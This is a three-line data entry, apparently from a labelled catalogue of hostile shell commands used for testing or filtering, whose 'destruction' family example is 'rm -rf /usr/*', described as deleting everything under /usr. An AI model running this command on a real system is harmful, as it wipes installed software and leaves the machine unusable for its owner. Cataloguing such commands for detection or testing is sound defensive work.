# description: Deletes everything under /usr.
# family: destruction
rm -rf /usr/*
